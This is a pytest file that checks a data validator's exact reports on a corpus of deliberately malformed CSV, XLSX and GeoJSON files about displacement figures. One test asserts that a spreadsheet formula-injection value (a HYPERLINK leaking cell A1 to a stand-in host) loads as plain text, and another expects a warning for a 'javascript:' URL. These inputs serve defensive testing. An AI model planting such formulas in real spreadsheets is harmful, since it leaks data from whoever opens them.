"""The malformed-file corpus: each made-up file has ONE defect and an exact expected outcome.

``EXPECTED`` is the whole specification of what ``python -m app validate`` says about each
file: exit status, the row accounting and every problem line, written out in full (Datasette
style) so a change in wording or counting is a visible diff here. Most files are checked in
process through :func:`app.validate.run` (the function behind the command, same JSON); a few
go through a real ``python -m app validate --json`` subprocess to prove the command itself
answers without a traceback. The files are made by ``make_corpus.py`` next to this test.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from app import validate

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]

_LAYOUTS = (
    "expected one of the known layouts: canonical-figures (the canonical figures header "
    "(figure_id, metric, kind, ... source_row)); hxl (an HXL hashtag row (#adm1+code, #date, "
    "#affected+idps, ...) under the header); dated-figures (metric, value, qualifier, area (or "
    "area_name_as_written), publisher, document, url); acled (ACLED: event_id_cnty, event_date, "
    "latitude, longitude, fatalities); ucdp-ged (UCDP GED: id, date_start, latitude, longitude, "
    "best); gazetteer (P-code gazetteer: level, pcode, name_en, parent_pcode)"
)
_PLACE = "expected a P-code, a gazetteer name or alias, or a region in regions.csv"
_CELLS = "expected 13 cells, one per header column (a line cut short, or a quote left open?)"
_COUNT = "expected a count such as 948000, 948,000, 948 000, 1.12 million or 344K"
_QUALIFIERS = (
    "expected one of 'a minimum of', 'about', 'almost', 'an estimated', 'approximately', "
    "'around', 'at least', 'circa', 'close to', 'estimate', 'estimated', 'exact', 'in excess "
    "of', 'just under', 'more than', 'nearly', 'over', 'projected', 'roughly', 'some', 'up to', "
    "'upwards of', or a chart label like \"344K\""
)
_URL = (
    "expected an http:// or https:// address; the figure is kept and the text kept as written, "
    "never shown as a link"
)

#: filename -> (exit status, rows read, accepted, rejected, unmatched, problem lines).
#: A problem line is compared in full after the "FILE:" prefix is removed.
EXPECTED: dict[str, tuple[int, int, int, int, int, list[str]]] = {
    # encodings and delimiters: read, nothing to report
    "madeup_windows1256_arabic_no_bom.csv": (0, 2, 2, 0, 0, []),
    "madeup_utf8_bom.csv": (0, 2, 2, 0, 0, []),
    "madeup_utf16_with_bom.csv": (0, 2, 2, 0, 0, []),
    "madeup_semicolon_delimited.csv": (0, 2, 2, 0, 0, []),
    "madeup_tab_delimited.csv": (0, 2, 2, 0, 0, []),
    # numbers
    "madeup_arabic_indic_digits.csv": (0, 3, 3, 0, 0, []),
    "madeup_quoted_thousands_948000.csv": (0, 3, 3, 0, 0, []),
    "madeup_ambiguous_decimal_comma_1_80.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:value: ',' followed by 2 digits in '1,80' is ambiguous (decimal comma, or a thousands "
            "group missing a digit?); expected thousands groups of exactly 3 digits (1,800) and '.' "
            "for decimals (1.8)"
        ],
    ),
    "madeup_negative_count.csv": (
        1,
        3,
        2,
        1,
        0,
        ["3:value: negative value '-500'; expected a count of zero or more"],
    ),
    "madeup_value_na.csv": (1, 3, 2, 1, 0, [f"3:value: 'n/a' is not a number; {_COUNT}"]),
    # dates
    # 03/04/2020 reads both ways and nothing in the file settles which: rejected, not guessed
    "madeup_dayfirst_date_03_04_2020.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:period_end: 03/04/2020 is 3 April 2020 (day-first) or 4 March 2020 (month-first), "
            "and nothing in the file settles which; expected an unambiguous date such as "
            "2020-04-03 or 3 Apr 2020 (or, in the same column, a date like 25/03/2020 that shows "
            "the convention)"
        ],
    ),
    # ... unless another date of the column settles it (25/03/2020 is day-first): said once
    "madeup_dayfirst_settled_by_25_03_2020.csv": (
        0,
        3,
        3,
        0,
        0,
        [
            "3:period_end: [warning] 03/04/2020 and any other date of this column that reads both "
            "ways are read day-first (3 April 2020), as row 4 (25/03/2020) shows; expected an "
            "unambiguous date such as 2020-04-03 or 3 Apr 2020"
        ],
    ),
    "madeup_date_2020-02-30.csv": (
        1,
        3,
        2,
        1,
        0,
        ["3:period_end: 2020-02-30: February 2020 has 29 days; expected a date that exists"],
    ),
    "madeup_date_31_04_2020.csv": (
        1,
        3,
        2,
        1,
        0,
        ["3:period_end: 31/04/2020: April 2020 has 30 days; expected a date that exists"],
    ),
    "madeup_date_year_1820.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:period_end: 1820-03-08: year 1820 is outside 1990-2100; expected a year from 1990 "
            "to 2100"
        ],
    ),
    "madeup_period_start_after_end.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:period_start: 2020-03-31 is after period end 2020-03-01; expected a period that "
            "starts on or before it ends"
        ],
    ),
    # empty or not text: a whole-file problem at row 0, nothing counted
    "madeup_empty_0_bytes.csv": (
        1,
        0,
        0,
        0,
        0,
        ["0:: the file is empty (0 bytes); expected a header row and data rows"],
    ),
    "madeup_whitespace_only.csv": (
        1,
        0,
        0,
        0,
        0,
        ["0:: the file is only whitespace; expected a header row and data rows"],
    ),
    "madeup_header_only.csv": (
        0,
        0,
        0,
        0,
        0,
        ["0:: [warning] no data rows under the header; expected at least one row of data"],
    ),
    "madeup_png_renamed.csv": (
        1,
        0,
        0,
        0,
        0,
        ["0:: the file is a PNG image; expected a text file such as CSV"],
    ),
    "madeup_zip_renamed.xlsx": (
        1,
        0,
        0,
        0,
        0,
        [
            "0:: a zip archive holding notes.txt; expected an .xlsx workbook or a zip holding a "
            "Shapefile (.shp with .shx, .dbf, .prj)"
        ],
    ),
    # structure
    "madeup_truncated_last_line.csv": (1, 3, 2, 1, 0, [f"4:: found 4 cells; {_CELLS}"]),
    "madeup_extra_cells_in_row.csv": (1, 3, 2, 1, 0, [f"3:: found 15 cells; {_CELLS}"]),
    "madeup_duplicate_header_columns.csv": (
        0,
        2,
        2,
        0,
        0,
        [
            "1:value (2): [warning] column 14 'value' repeats column 5 'value'; each column name "
            "once: only one of them is read (rename or remove the other)"
        ],
    ),
    "madeup_duplicate_header_differing_case.csv": (
        0,
        2,
        2,
        0,
        0,
        [
            "1:Value: [warning] column 14 'Value' repeats column 5 'value'; each column name "
            "once: only one of them is read (rename or remove the other)"
        ],
    ),
    "madeup_blank_lines_between_rows.csv": (0, 2, 2, 0, 0, []),
    "madeup_unknown_layout.csv": (
        1,
        0,
        0,
        0,
        0,
        [f"0:: unknown layout: the header has name, population; {_LAYOUTS}"],
    ),
    "madeup_missing_value_column.csv": (
        1,
        0,
        0,
        0,
        0,
        [
            "0:: unknown layout: the header has period_start, period_end, published_date, metric, "
            "qualifier, area_name_as_written, pcode, pcode_level, publisher, document, url, note; "
            + _LAYOUTS
        ],
    ),
    # places
    "madeup_unknown_pcode_SY999999.csv": (
        1,
        3,
        2,
        0,
        1,
        [f"3:pcode: [unmatched] P-code 'SY999999' is not in the gazetteer; {_PLACE}"],
    ),
    "madeup_ambiguous_name_ariha_no_level.csv": (
        1,
        3,
        2,
        0,
        1,
        [f"3:area_name_as_written: [unmatched] 'Ariha' is ambiguous: SY0705, SY070500; {_PLACE}"],
    ),
    "madeup_unmatched_name_atlantis.csv": (
        1,
        3,
        2,
        0,
        1,
        [
            f"3:area_name_as_written: [unmatched] 'Atlantis' matches no P-code, region or alias; "
            f"{_PLACE}"
        ],
    ),
    "madeup_fuzzy_name_saraqeb.csv": (
        0,
        3,
        3,
        0,
        0,
        [
            "3:area_name_as_written: [warning] fuzzy match 'Saraqeb' -> SY070003 Saraqab (score 86); "
            "expected an exact name; check the match or add the spelling to the aliases"
        ],
    ),
    # text cells
    "madeup_formula_injection_hyperlink.csv": (0, 3, 3, 0, 0, []),
    "madeup_unknown_qualifier.csv": (
        1,
        3,
        2,
        1,
        0,
        [f"3:qualifier: 'roughly-ish' is not a documented qualifier; {_QUALIFIERS}"],
    ),
    "madeup_url_javascript_scheme.csv": (
        0,
        3,
        3,
        0,
        0,
        [
            "3:url: [warning] 'javascript:alert(1)' is not an http(s) link (scheme 'javascript'); "
            f"{_URL}"
        ],
    ),
    "madeup_url_without_scheme.csv": (
        0,
        3,
        3,
        0,
        0,
        [f"3:url: [warning] 'www.example.org/report' is not an http(s) link (no scheme); {_URL}"],
    ),
    "madeup_carriage_return_in_note.csv": (0, 3, 3, 0, 0, []),
    # the same figure twice (same dates, metric, area, publisher and document)
    "madeup_repeat_figure_different_value.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:value: 250,000 here but 248,842 on row 2 for the same figure (same dates, metric, "
            "area, publisher and document); expected one value per figure: correct one of the two "
            "rows, or tell them apart (document, area, dates or sector)"
        ],
    ),
    "madeup_repeat_figure_same_value.csv": (
        0,
        3,
        3,
        0,
        0,
        [
            "3:value: [warning] repeats row 2: the same figure (same dates, metric, area, "
            "publisher and document) with the same value 248,842; expected each figure once; both "
            "rows kept (the dashboard counts it once)"
        ],
    ),
    # a P-code whose level contradicts its column
    "madeup_pcode_level_contradiction.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:pcode: P-code SY070300 in column 'pcode' is level 3 (sub-district); expected a "
            "level 1 P-code (governorate), as pcode_level 1 declares; put it in the column of its "
            "level"
        ],
    ),
    "madeup_hxl_adm1_code_holds_subdistrict.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "4:Governorate P-code: P-code SY070300 in column 'Governorate P-code' is level 3 "
            "(sub-district); expected a level 1 P-code (governorate), as its hashtag #adm1+code "
            "declares; put it in the column of its level"
        ],
    ),
    # other layouts
    "madeup_hxl_misplaced_hashtag_row.csv": (
        1,
        0,
        0,
        0,
        0,
        [
            "0:: unknown layout: the header has Date, Sub-district P-code, IDPs present, Source, "
            f"Document; {_LAYOUTS}"
        ],
    ),
    "madeup_acled_bad_latitude.csv": (
        1,
        3,
        2,
        1,
        0,
        ["3:latitude: '361.2122'; expected decimal degrees from -90 to 90, such as 35.93"],
    ),
    "madeup_acled_date_9999_placeholder.csv": (
        1,
        3,
        2,
        1,
        0,
        [
            "3:event_date: 9999-12-31: year 9999 is outside 1990-2100; expected a year from 1990 "
            "to 2100"
        ],
    ),
    "madeup_ucdp_fatalities_minus_one.csv": (
        1,
        3,
        2,
        1,
        0,
        ["3:best: negative value '-1'; expected a count of zero or more"],
    ),
    "madeup_xlsx_value_na.xlsx": (1, 3, 2, 1, 0, [f"3:value: 'n/a' is not a number; {_COUNT}"]),
    # boundaries
    "madeup_geojson_self_intersecting_ring.geojson": (
        0,
        2,
        2,
        0,
        0,
        [
            "2:geometry: [warning] feature 2 (SY070302): invalid geometry (Self-intersection"
            "[36.475 36.155]); expected valid rings; repaired with shapely.make_valid, check the "
            "shape"
        ],
    ),
    "madeup_geojson_null_geometry.geojson": (
        1,
        2,
        1,
        1,
        0,
        ["2:geometry: feature 2 (SY070302) has no geometry; expected a Polygon or MultiPolygon"],
    ),
    "madeup_geojson_epsg3857_crs_member.geojson": (0, 1, 1, 0, 0, []),
}

#: Files checked through a real ``python -m app validate --json`` subprocess (one call).
SUBPROCESS = [
    "madeup_windows1256_arabic_no_bom.csv",
    "madeup_value_na.csv",
    "madeup_png_renamed.csv",
    "madeup_geojson_null_geometry.geojson",
]


def corpus_files() -> list[Path]:
    return sorted(p for p in HERE.iterdir() if p.name.startswith("madeup_"))


def test_corpus_is_complete() -> None:
    names = {p.name for p in corpus_files()}
    assert names == set(EXPECTED), "every corpus file needs an EXPECTED entry and back"
    assert len(names) >= 30


def test_corpus_files_are_what_make_corpus_writes() -> None:
    """No corpus file was edited by hand: each is byte for byte what its recipe makes."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_corpus", HERE / "make_corpus.py")
    assert spec and spec.loader
    make_corpus = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(make_corpus)
    assert set(make_corpus.FILES) == set(EXPECTED)
    for name, make in make_corpus.FILES.items():
        assert (HERE / name).read_bytes() == make(), f"{name}: run tests/corpus/make_corpus.py"


def _check(name: str, doc: dict) -> None:
    exit_code, rows_read, accepted, rejected, unmatched, lines = EXPECTED[name]
    got = (doc["rows_read"], doc["accepted"], doc["rejected"], doc["unmatched"])
    assert got == (rows_read, accepted, rejected, unmatched)
    assert rows_read == accepted + rejected + unmatched
    assert (0 if doc["clean"] else 1) == exit_code
    written = []
    for p in doc["problems"]:
        tag = "" if p["severity"] == "error" else f"[{p['severity']}] "
        assert p["file"] == name
        written.append(f"{p['row']}:{p['column']}: {tag}{p['found']}; {p['expected']}")
    assert written == lines
    assert not any("internal error" in line or "Traceback" in line for line in written)


@pytest.mark.parametrize("name", sorted(set(EXPECTED) - set(SUBPROCESS)))
def test_validate_outcome(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    code = validate.run([str(HERE / name)], as_json=True)
    out, err = capsys.readouterr()
    doc = json.loads(out)
    assert err == ""
    assert code == EXPECTED[name][0]
    (file_doc,) = doc["files"]
    _check(name, file_doc)


def test_validate_command_in_a_subprocess() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "app", "validate", "--json", *(str(HERE / n) for n in SUBPROCESS)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.stderr == "", proc.stderr
    assert proc.returncode == max(EXPECTED[n][0] for n in SUBPROCESS)
    doc = json.loads(proc.stdout)
    assert [Path(f["file"]).name for f in doc["files"]] == SUBPROCESS
    for name, file_doc in zip(SUBPROCESS, doc["files"], strict=True):
        _check(name, file_doc)


def test_validate_command_text_report_and_exit_0() -> None:
    """The plain report of a clean file: one summary line, exit 0."""
    name = "madeup_utf8_bom.csv"
    proc = subprocess.run(
        [sys.executable, "-m", "app", "validate", str(HERE / name)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert (proc.returncode, proc.stderr) == (0, "")
    assert proc.stdout == (
        f"{HERE / name}: csv:dated-figures (figures): 2 rows read, "
        "2 accepted, 0 rejected, 0 unmatched, 0 warnings\n"
    )


# --- what the accepted rows hold: the defect was read, not guessed ---------------------------


@pytest.fixture(scope="module")
def loaded():  # type: ignore[no-untyped-def]
    from app.loaders import default_context, load

    ctx = default_context()
    return lambda name: load(HERE / name, ctx).table


def test_values_as_written_are_read(loaded) -> None:  # type: ignore[no-untyped-def]
    assert loaded("madeup_arabic_indic_digits.csv")["value"].tolist() == [248842, 248842, 95268]
    assert loaded("madeup_quoted_thousands_948000.csv")["value"].tolist() == [248842, 948000, 95268]
    unsettled = loaded("madeup_dayfirst_date_03_04_2020.csv")["period_end"]
    assert unsettled.tolist() == [pd.Timestamp(2020, 3, 8)] * 2  # 03/04/2020: rejected, no guess
    day_first = loaded("madeup_dayfirst_settled_by_25_03_2020.csv")["period_end"]
    assert day_first.tolist() == [  # 3 April, as 25/03/2020 in the same column shows
        pd.Timestamp(2020, 3, 8), pd.Timestamp(2020, 4, 3), pd.Timestamp(2020, 3, 25)
    ]
    note = loaded("madeup_carriage_return_in_note.csv")["note"].iloc[1]
    assert note == "line1\rline2"


def test_arabic_names_from_windows_1256_match(loaded) -> None:  # type: ignore[no-untyped-def]
    table = loaded("madeup_windows1256_arabic_no_bom.csv")
    assert table["area_as_written"].tolist() == ["الدانا", "سلقين"]
    assert table["area_pcode"].tolist() == ["SY070301", "SY070302"]


def test_fuzzy_name_is_kept_with_its_match(loaded) -> None:  # type: ignore[no-untyped-def]
    table = loaded("madeup_fuzzy_name_saraqeb.csv")
    assert table.loc[1, ["area_as_written", "area_pcode"]].tolist() == ["Saraqeb", "SY070003"]


def test_formula_is_loaded_as_plain_text(loaded) -> None:  # type: ignore[no-untyped-def]
    note = loaded("madeup_formula_injection_hyperlink.csv")["note"].iloc[1]
    assert note == '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_web_mercator_geojson_is_reprojected(loaded) -> None:  # type: ignore[no-untyped-def]
    west, south, east, north = loaded("madeup_geojson_epsg3857_crs_member.geojson").total_bounds
    assert 36.6 < west < east < 36.8 and 36.1 < south < north < 36.3  # degrees, near Dana
